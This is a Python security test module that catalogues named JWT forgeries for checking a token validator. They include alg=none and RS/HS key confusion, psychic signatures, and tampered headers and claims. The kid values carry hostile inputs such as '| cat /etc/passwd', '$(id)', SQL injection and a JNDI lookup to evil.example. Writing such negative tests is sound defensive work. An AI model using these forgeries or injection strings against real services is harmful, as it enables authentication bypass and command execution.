"""Every forgery by name: signatures, algorithms, headers, claims, credentials of another kind, and plain nonsense."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Callable
from typing import Any

from tests.security.forge import Forge, b64, text_of

Forgery = Callable[[Forge], str]


def _signature(text: str) -> Forgery:
    return lambda forge: ".".join([*forge.parts()[:2], text])


def _header(**members: Any) -> Forgery:
    return lambda forge: forge.signed(**members)


def _claims(**changes: Any) -> Forgery:
    return lambda forge: forge.signed(forge.fresh(**changes))


def _service(**changes: Any) -> Forgery:
    return lambda forge: forge.signed(forge.fresh_service(**changes))


def _raw_claims(change: Callable[[str], str]) -> Forgery:
    return lambda forge: forge.signed(change(text_of(forge.fresh()).decode()).encode())


def _member(text: str) -> Forgery:
    return _raw_claims(lambda claims: f"{claims[:-1]},{text}}}")


def _confused(form: str, alg: str = "HS256", strip: bool = False) -> Forgery:
    return lambda forge: forge.hmac(forge.public(form).strip() if strip else forge.public(form), alg)


NONE = ("none", "None", "NONE", "nOnE", "NonE", "none ", " none", "nonе", "null", "", "n\u200bone")

ALGORITHMS: dict[str, Forgery] = {
    **{f"alg {alg!r} without signature": (lambda forge, alg=alg: forge.unsigned(alg)) for alg in NONE},
    **{
        f"alg {alg!r} with the signature of an honest token": (
            lambda forge, alg=alg: forge.unsigned(alg, forge.parts()[2])
        )
        for alg in ("none", "HS256", "RS384", "RS512", "PS256", "ES256")
    },
    "alg null": lambda forge: forge.signed(header=f'{{"alg":null,"kid":"{forge.kid}","typ":"JWT"}}'.encode()),
    "alg a number": lambda forge: forge.unsigned(0),
    "alg a list": lambda forge: forge.unsigned(["none", "RS256"]),
    "alg an object": lambda forge: forge.unsigned({"RS256": True}),
    "alg true": lambda forge: forge.unsigned(True),
    "alg in lower case over an honest signature": _header(alg="rs256"),
    "alg RS512 over an RS256 signature": _header(alg="RS512"),
    "no alg over an honest signature": lambda forge: forge.signed(header={"kid": forge.kid, "typ": "JWT"}),
    "PS256 by our own key": lambda forge: forge.pss(),
    "ES256 by a key of the forger": lambda forge: forge.elliptic("ES256"),
    "ES256K by a key of the forger": lambda forge: forge.elliptic("ES256K"),
    "EdDSA by a key of the forger": lambda forge: forge.elliptic("EdDSA"),
    "EdDSA with the key embedded (OKP)": lambda forge: forge.elliptic(
        "EdDSA", jwk={"kty": "OKP", "crv": "Ed25519", "x": b64(b"\x00" * 32)}
    ),
    "psychic signature, r = s = 0 (CVE-2022-21449)": lambda forge: forge.unsigned("ES256", b64(b"\x00" * 64)),
    "psychic signature in DER": lambda forge: forge.unsigned("ES256", b64(bytes.fromhex("3006020100020100"))),
    "RS/HS confusion, key as PEM": _confused("pem"),
    "RS/HS confusion, key as PEM without its last newline": _confused("pem", strip=True),
    "RS/HS confusion, key as PKCS #1": _confused("pkcs1"),
    "RS/HS confusion, key as DER": _confused("der"),
    "RS/HS confusion, key as OpenSSH": _confused("ssh"),
    "RS/HS confusion, key as JWK": _confused("jwk"),
    "RS/HS confusion, HS384": _confused("pem", "HS384"),
    "RS/HS confusion, HS512": _confused("pem", "HS512"),
    "RS/HS confusion, modulus as secret": lambda forge: forge.hmac(forge.jwk()["n"].encode()),
    "HS256 with an empty secret": lambda forge: forge.hmac(b""),
    "HS256 with the kid as secret": lambda forge: forge.hmac(forge.kid.encode()),
    "HS256 with a common secret": lambda forge: forge.hmac(b"secret"),
    "HS256 of a null file by kid": lambda forge: forge.hmac(b"", kid="../../../../dev/null"),
    "HMAC under the name of RS256": lambda forge: forge.hmac(forge.public("pem"), named="RS256"),
}

SIGNATURES: dict[str, Forgery] = {
    "empty signature": _signature(""),
    "null byte as signature": _signature("AA"),
    "256 null bytes as signature": _signature(b64(b"\x00" * 256)),
    "signature 1": _signature(b64(b"\x00" * 255 + b"\x01")),
    "signature of all ones": _signature(b64(b"\xff" * 256)),
    "signature too short": lambda forge: forge.signed()[:-4],
    "signature too long": lambda forge: forge.signed() + "AAAA",
    "signature with characters outside of its alphabet": lambda forge: forge.signed()[:-4] + "!" + forge.signed()[-4:],
    "signature with stray characters inside": lambda forge: _respelled(forge, lambda s: f"{s[:8]}~{s[8:]}"),
    "signature padded": lambda forge: _respelled(forge, lambda s: s + "=="),
    "signature in the classic alphabet": lambda forge: _respelled(forge, lambda s: s.translate(_CLASSIC) + "+/"),
    "signature with other unused bits": lambda forge: _respelled(forge, lambda s: s[:-1] + _neighbour(s[-1])),
    "signature of another token": lambda forge: ".".join([*forge.parts()[:2], forge.parts()[2]]),
    "signature by a stranger's key under our kid": lambda forge: forge.signed(key=forge.stranger),
    "one bit of the signature turned": lambda forge: _bit_turned(forge),
    "payload exchanged after signing": lambda forge: ".".join(
        [forge.parts()[0], b64(text_of(forge.fresh(roles=["admin"]))), forge.parts()[2]]
    ),
    "header exchanged after signing": lambda forge: ".".join(
        [b64(text_of({**forge.header, "typ": "at+jwt"})), *forge.parts()[1:]]
    ),
}

HEADERS: dict[str, Forgery] = {
    **{
        f"kid {kid[:40]!r}": _header(kid=kid)
        for kid in (
            "../../dev/null",
            "/dev/null",
            "..\\..\\win.ini",
            "file:///etc/passwd",
            "' OR 1=1 --",
            "x' UNION SELECT 'AA' --",
            "| cat /etc/passwd",
            "$(id)",
            "${jndi:ldap://evil.example/a}",
            "unknown",
            "https://evil.example/jwks.json",
            "",
            " ",
            "*",
            "k" * 10_000,
            "\x00",
            "ключ",
        )
    },
    "kid with a null byte behind": lambda forge: forge.signed(kid=forge.kid + "\x00"),
    "kid with a space before": lambda forge: forge.signed(kid=" " + forge.kid),
    "kid in other case": lambda forge: forge.signed(kid=forge.kid.swapcase() + "x"),
    "no kid": lambda forge: forge.signed(header={"alg": "RS256", "typ": "JWT"}),
    "kid a list": lambda forge: forge.signed(kid=[forge.kid]),
    "kid an object": lambda forge: forge.signed(kid={"eq": forge.kid}),
    "kid a number": _header(kid=0),
    "kid a truth value": _header(kid=True),
    "jku of the forger, signed by the forger": lambda forge: forge.signed(
        jku="https://evil.example/jwks", key=forge.stranger
    ),
    "jku beside an honest signature": _header(jku="https://auth.castor/v1/auth/jwks"),
    "x5u of the forger": lambda forge: forge.signed(x5u="https://evil.example/cert.pem", key=forge.stranger),
    "x5c of the forger": lambda forge: forge.signed(x5c=["MIIB"], key=forge.stranger),
    "x5t beside an honest signature": _header(x5t="AAAA"),
    "jwk of the forger embedded (CVE-2018-0114)": lambda forge: forge.signed(
        jwk=forge.jwk(forge.stranger), key=forge.stranger
    ),
    "our own jwk embedded": lambda forge: forge.signed(jwk=forge.jwk()),
    "crit of an extension that nobody knows": _header(crit=["http://example.com/unknown"], unknown=True),
    "crit of exp": _header(crit=["exp"], exp=9_999_999_999),
    "crit empty": _header(crit=[]),
    "b64 false with crit (RFC 7797)": _header(b64=False, crit=["b64"]),
    "b64 false without crit": _header(b64=False),
    "b64 false over a bare payload": lambda forge: _unencoded(forge),
    "zip": lambda forge: forge.signed(zlib.compress(text_of(forge.fresh())), zip="DEF"),
    "cty JWT, a token in a token": lambda forge: forge.signed(text_of(forge.signed()), cty="JWT"),
    "a token in a token without cty": lambda forge: forge.signed(json.dumps(forge.signed()).encode()),
    "enc in a signed token": _header(enc="A128GCM"),
    "typ of a refresh token": _header(typ="refresh+jwt"),
    "typ of a logout token": _header(typ="logout+jwt"),
    "typ of an identity token": _header(typ="id_token"),
    "typ of a proof (dpop+jwt)": _header(typ="dpop+jwt"),
    "typ a list": _header(typ=["JWT"]),
    "alg twice in the header": lambda forge: forge.signed(
        header=f'{{"alg":"none","alg":"RS256","kid":"{forge.kid}","typ":"JWT"}}'.encode()
    ),
    "kid twice in the header": lambda forge: forge.signed(
        header=f'{{"alg":"RS256","kid":"x","kid":"{forge.kid}","typ":"JWT"}}'.encode()
    ),
    "alg twice, once escaped": lambda forge: forge.signed(
        header=f'{{"\\u0061lg":"none","alg":"RS256","kid":"{forge.kid}","typ":"JWT"}}'.encode()
    ),
    "header a list": lambda forge: forge.signed(header=b'["RS256"]'),
    "header null": lambda forge: forge.signed(header=b"null"),
    "header with a byte order mark": lambda forge: forge.signed(header=b"\xef\xbb\xbf" + text_of(forge.header)),
    "header in UTF-16": lambda forge: forge.signed(header=json.dumps(forge.header).encode("utf-16")),
    "header with something behind": lambda forge: forge.signed(header=text_of(forge.header) + b"{}"),
}

CLAIMS: dict[str, Forgery] = {
    "expired an hour ago": lambda forge: forge.signed(forge.fresh(iat=forge.at(-4500), exp=forge.at(-3600))),
    "expired ten seconds ago": lambda forge: forge.signed(forge.fresh(iat=forge.at(-910), exp=forge.at(-10))),
    "no exp": _claims(exp=None),
    "exp a text": _claims(exp="9999999999"),
    "exp a fraction": _claims(exp=9_999_999_999.5),
    "exp true": _claims(exp=True),
    "exp zero": _claims(exp=0),
    "exp negative": _claims(exp=-1),
    "exp infinite": _raw_claims(lambda claims: claims.replace('"exp":', '"exp":1e999,"was":')),
    "exp NaN": _raw_claims(lambda claims: claims.replace('"exp":', '"exp":NaN,"was":')),
    "exp a list": _claims(exp=[9_999_999_999]),
    "exp before iat": lambda forge: forge.signed(forge.fresh(iat=forge.at(0), exp=forge.at(-2))),
    "exp in a hundred years": lambda forge: forge.signed(forge.fresh(exp=forge.at(3_155_760_000))),
    "exp in milliseconds": lambda forge: forge.signed(forge.fresh(exp=forge.at(0) * 1000)),
    "no iat": _claims(iat=None),
    "iat in an hour": lambda forge: forge.signed(forge.fresh(iat=forge.at(3600), exp=forge.at(4500))),
    "iat a text": _claims(iat="0"),
    "nbf in an hour": lambda forge: forge.signed(forge.fresh(nbf=forge.at(3600))),
    "nbf a text": _claims(nbf="0"),
    "nbf true": _claims(nbf=True),
    "no iss": _claims(iss=None),
    "iss of another": _claims(iss="https://evil.example"),
    "iss with a slash behind": _claims(iss="https://auth.castor/"),
    "iss without its scheme": _claims(iss="auth.castor"),
    "iss a list that holds ours": _claims(iss=["https://auth.castor"]),
    "iss in upper case": _claims(iss="HTTPS://AUTH.CASTOR"),
    "no aud": _claims(aud=None),
    "aud of another platform": _claims(aud="pollux"),
    "aud a list that holds ours": _claims(aud=["pollux", "castor"]),
    "aud empty": _claims(aud=""),
    "aud an object": _claims(aud={"castor": True}),
    "aud a wildcard": _claims(aud="*"),
    "aud with a space behind": _claims(aud="castor "),
    "no jti": _claims(jti=None),
    "jti empty": _claims(jti=""),
    "no sub": _claims(sub=None),
    "sub empty": _claims(sub=""),
    "sub a number": _claims(sub=1),
    "sub a list": _claims(sub=["admin"]),
    "no scope": _claims(scope=None),
    "scope a list": _claims(scope=["account:manage", "sentiment:analyze"]),
    "roles of the wrong type": _claims(roles=[{"name": "admin"}]),
    "roles a number": _claims(roles=7),
    "no token_use": _claims(token_use=None),
    "token_use refresh": _claims(token_use="refresh"),
    "token_use api_key": _claims(token_use="api_key"),
    "token_use a list": _claims(token_use=["user"]),
    "type of the predecessor's refresh tokens": lambda forge: forge.signed(
        {**forge.fresh(token_use=None), "type": "refresh", "fresh": False}
    ),
    "bound to a certificate that is not the caller's": _claims(cnf={"x5t#S256": b64(b"\x07" * 32)}),
    "bound by a key that we cannot check (jkt)": _claims(cnf={"jkt": b64(b"\x07" * 32)}),
    "cnf that is no object": _claims(cnf="x5t#S256"),
    "exp twice": _member('"exp":9999999999'),
    "scope twice": _member('"scope":"users:admin"'),
    "sub twice": _member('"sub":"00000000-0000-0000-0000-000000000001"'),
    "aud twice": _raw_claims(lambda claims: '{"aud":"pollux",' + claims[1:]),
    "iss twice, once escaped": _raw_claims(lambda claims: '{"\\u0069ss":"https://evil.example",' + claims[1:]),
    "duplicate member deep inside": _member('"extra":{"a":1,"a":2}'),
    "payload a list": lambda forge: forge.signed(text_of([forge.fresh()])),
    "payload a text": lambda forge: forge.signed(b'"admin"'),
    "payload null": lambda forge: forge.signed(b"null"),
    "payload empty": lambda forge: forge.signed(b""),
    "payload no JSON": lambda forge: forge.signed(b"sub=admin&exp=9999999999"),
    "payload not UTF-8": lambda forge: forge.signed(b'{"sub":"\xff\xfe"}'),
    "payload in single quotes": _raw_claims(lambda claims: claims.replace('"', "'")),
    "payload with a comment": _raw_claims(lambda claims: claims + "// signed"),
    "payload twice": _raw_claims(lambda claims: claims * 2),
    "payload nested too deep": lambda forge: forge.signed(b'{"a":' * 900 + b"1" + b"}" * 900),
    "payload with a null character in sub": _claims(sub="\x00"),
}

SERVICE_TOKENS: dict[str, Forgery] = {
    "service token bound to another certificate": _service(cnf={"x5t#S256": b64(b"\x07" * 32)}),
    "service token bound to nothing": _service(cnf=None),
    "service token bound to an empty thumbprint": _service(cnf={"x5t#S256": ""}),
    "service token bound by SHA-1": lambda forge: forge.signed(
        forge.fresh_service(cnf={"x5t": forge.service["cnf"]["x5t#S256"]})
    ),
    "service token bound to a list that holds the thumbprint": lambda forge: forge.signed(
        forge.fresh_service(cnf={"x5t#S256": [forge.service["cnf"]["x5t#S256"]]})
    ),
    "service token with cnf a text": lambda forge: forge.signed(
        forge.fresh_service(cnf=forge.service["cnf"]["x5t#S256"])
    ),
    "service token for another audience": _service(aud="rag-service"),
    "service token for every audience": _service(aud="castor"),
    "service token without audience": _service(aud=None),
    "user token that calls itself a service's": lambda forge: forge.signed(forge.fresh(token_use="service")),
    "service token that calls itself a user's": _service(token_use="user"),
    "service token expired": lambda forge: forge.signed(forge.fresh_service(exp=forge.at(-10), iat=forge.at(-310))),
}

OTHER_CREDENTIALS: dict[str, Forgery] = {
    "refresh token as access token": lambda forge: forge.honest["refresh"],
    "API key with its last character changed": lambda forge: forge.honest["api_key"][:-1] + "~",
    "API key with the secret of nobody": lambda forge: forge.honest["api_key"][:24] + "A" * 43,
    "API key without its prefix": lambda forge: forge.honest["api_key"].removeprefix("castor_"),
    "service token for another service": lambda forge: forge.honest["other_service"],
    "service token of another caller, replayed over this connection": lambda forge: forge.honest["other_caller"],
    "access token of a session that was logged out": lambda forge: forge.honest["logged_out"],
    "token of another installation": lambda forge: forge.honest["other_issuer"],
}

MALFORMED: dict[str, Forgery] = {
    "one part": lambda forge: forge.parts()[1],
    "two parts": lambda forge: ".".join(forge.parts()[:2]),
    "four parts": lambda forge: forge.signed() + ".AAAA",
    "five parts (JWE)": lambda _: ".".join([b64(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA", "AAAA", "AAAA"]),
    "only dots": lambda _: "..",
    "payload missing": lambda forge: f"{forge.parts()[0]}..{forge.parts()[2]}",
    "header missing": lambda forge: ".{}.{}".format(*forge.parts()[1:]),
    "flattened JSON serialisation": lambda forge: json.dumps(
        dict(zip(("protected", "payload", "signature"), forge.parts(), strict=True))
    ),
    "general JSON serialisation": lambda forge: json.dumps(
        {
            "payload": forge.parts()[1],
            "signatures": [{"protected": forge.parts()[0], "signature": forge.parts()[2]}],
        }
    ),
    "in quotes": lambda forge: f'"{forge.signed()}"',
    "a space inside": lambda forge: forge.signed().replace(".", " .", 1),
    "a tab inside": lambda forge: forge.signed().replace(".", ".\t", 1),
    "a no-break space behind": lambda forge: forge.signed() + "\u00a0",
    "a zero-width space inside": lambda forge: forge.signed().replace(".", "\u200b.", 1),
    "full-width dots": lambda forge: forge.signed().replace(".", "．"),
    "header padded": lambda forge: _padded(forge),
    "payload in the classic alphabet": lambda forge: _classic_payload(forge),
    "base64 of the whole token": lambda forge: base64.b64encode(forge.signed().encode()).decode(),
    "two tokens": lambda forge: f"{forge.signed()} {forge.signed()}",
    "two tokens with a comma": lambda forge: f"{forge.signed()},{forge.signed()}",
    "the word Bearer twice": lambda forge: f"Bearer {forge.signed()}",
    "percent encoded": lambda forge: forge.signed().replace(".", "%2E"),
    "16 kB": lambda forge: forge.signed(forge.fresh(padding="x" * 12_000)),
    "1 MB": lambda forge: forge.signed(forge.fresh(padding="x" * 750_000)),
    "undefined": lambda _: "undefined",
    "null": lambda _: "null",
    "a serialised object": lambda _: "O:8:stdClass:0:{}",
    "emoji": lambda _: "🗝.🗝.🗝",
}

FORGERIES: dict[str, Forgery] = {
    **ALGORITHMS, **SIGNATURES, **HEADERS, **CLAIMS, **SERVICE_TOKENS, **OTHER_CREDENTIALS, **MALFORMED,
}  # fmt: skip

_CLASSIC = str.maketrans("-_", "+/")
_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def _respelled(forge: Forge, change: Callable[[str], str]) -> str:
    head, payload, signature = forge.parts()
    return f"{head}.{payload}.{change(signature)}"


def _neighbour(character: str) -> str:
    # 256 bytes leave four unused bits in the last character: sixteen spellings of one signature.
    return _ALPHABET[_ALPHABET.index(character) ^ 1]


def _bit_turned(forge: Forge) -> str:
    head, payload, signature = forge.parts()
    raw = bytearray(base64.urlsafe_b64decode(signature + "=="))
    raw[100] ^= 1
    return f"{head}.{payload}.{b64(bytes(raw))}"


def _unencoded(forge: Forge) -> str:
    head, _, signature = forge.signed(b64=False, crit=["b64"]).split(".")
    return f"{head}.{text_of(forge.fresh()).decode()}.{signature}"


def _padded(forge: Forge) -> str:
    head, rest = forge.signed().split(".", 1)
    return f"{head}{'=' * (-len(head) % 4) or '===='}.{rest}"


def _classic_payload(forge: Forge) -> str:
    while True:
        head, payload, signature = forge.signed(forge.fresh(note="¿ÿþ?>~~")).split(".")
        if payload.translate(_CLASSIC) != payload:
            return f"{head}.{payload.translate(_CLASSIC)}.{signature}"
